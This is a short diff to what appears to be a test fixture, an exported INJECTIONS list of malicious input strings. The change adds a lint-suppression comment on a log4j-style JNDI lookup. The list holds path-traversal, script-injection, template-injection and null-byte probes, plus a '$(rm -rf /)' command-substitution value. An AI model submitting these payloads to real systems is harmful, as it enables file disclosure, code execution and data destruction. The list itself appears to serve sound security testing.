@@ -40,6 +40,7 @@ export const INJECTIONS = [
   "..%2F..%2Fetc%2Fpasswd",
   "<script>alert(1)</script>",
   "{{7*7}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style injection, sent as literal text
   "${jndi:ldap://x/a}",
   "$(rm -rf /)",
   "%00",
